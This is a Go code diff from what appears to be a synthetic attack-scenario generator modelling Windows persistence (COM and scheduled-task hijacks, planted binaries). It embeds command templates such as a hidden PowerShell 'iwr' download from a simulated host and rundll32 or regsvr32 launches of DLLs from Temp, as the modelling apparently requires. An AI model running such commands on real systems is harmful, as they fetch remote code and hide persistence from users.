@@ -192,30 +192,31 @@ func scriptStory(w *world, d dice, p *plant) kind {
 		bare("regsvr32.exe", ` /s `+stem+`.ocx`), exe(`C:\Windows\Temp\`+stem+`.tmp`, stem+`.tmp /s`).by("-").call(c)))
 }
 
-func comStory(w *world, d dice, p *plant) (string, func(*node)) {
+func comStory(w *world, d dice, p *plant) (string, func(*edition)) {
 	c := p.calls(w.own(""), 25*minute, 0.2)
 	c.every, c.jitter = 25*minute, 0.2
-	return pick(d, []string{"com-plain", "com-cache"}), func(n *node) { *n = n.call(c) }
+	return pick(d, []string{"com-plain", "com-cache"}), func(e *edition) { e.root = e.root.call(c) }
 }
 
-func hijackChild(w *world, d dice, p *plant) (string, func(*node)) {
+func hijackChild(w *world, d dice, p *plant) (string, func(*edition)) {
 	c := p.calls(w.own(""), 0, 0)
 	child := pick(d, []node{cmd(`start /min {home}\AppData\Local\Temp\{dhex}.bat`), ps(`-nop -w hidden -c "iwr https://` + hostOf(p.where) + `/s"`), bare("rundll32.exe", ` {home}\AppData\Local\Temp\{dhex}.dll,Start`)}).call(c)
-	return pick(d, []string{"edge-ua", "chrome", "inventory", "office-features"}), func(n *node) { *n = n.with(child) }
+	return pick(d, []string{"edge-ua", "chrome", "inventory", "office-features"}), func(e *edition) { e.root = e.root.with(child) }
 }
 
-func hijackFile(w *world, d dice, p *plant) (string, func(*node)) {
+func hijackFile(w *world, d dice, p *plant) (string, func(*edition)) {
 	c := p.calls(w.own(""), 0, 0)
-	return pick(d, []string{"av-update", "backup", "adobe", "onedrive"}), func(n *node) {
-		n.content = "changed " + n.image
-		n.calls = []call{c}
+	return pick(d, []string{"av-update", "backup", "adobe", "onedrive"}), func(e *edition) {
+		e.root.content = "changed " + e.root.image
+		e.root.calls = []call{c}
 	}
 }
 
-func stockStory(w *world, d dice, p *plant) (string, func(*node)) {
+func stockStory(w *world, d dice, p *plant) (string, func(*edition)) {
 	v, c := w.names.vendor(), p.calls(w.own(""), 0, 0)
 	file := pick(d, []string{`C:\ProgramData\` + v + `\` + programName(d, v), `C:\Windows\Tasks\` + programName(d, v)})
-	return pick(d, []string{"dsregcmd", "com-flighting", "pca"}), func(n *node) {
-		*n = pick(d, []node{exe(file, file).by("-"), tool("rundll32.exe", ` C:\ProgramData\`+v+`\`+strings.ToLower(v)+`.dll,Start`)}).call(c)
+	return pick(d, []string{"dsregcmd", "com-flighting", "pca"}), func(e *edition) {
+		e.class, e.retasked = "", true
+		e.root = pick(d, []node{exe(file, file).by("-"), tool("rundll32.exe", ` C:\ProgramData\`+v+`\`+strings.ToLower(v)+`.dll,Start`)}).call(c)
 	}
 }
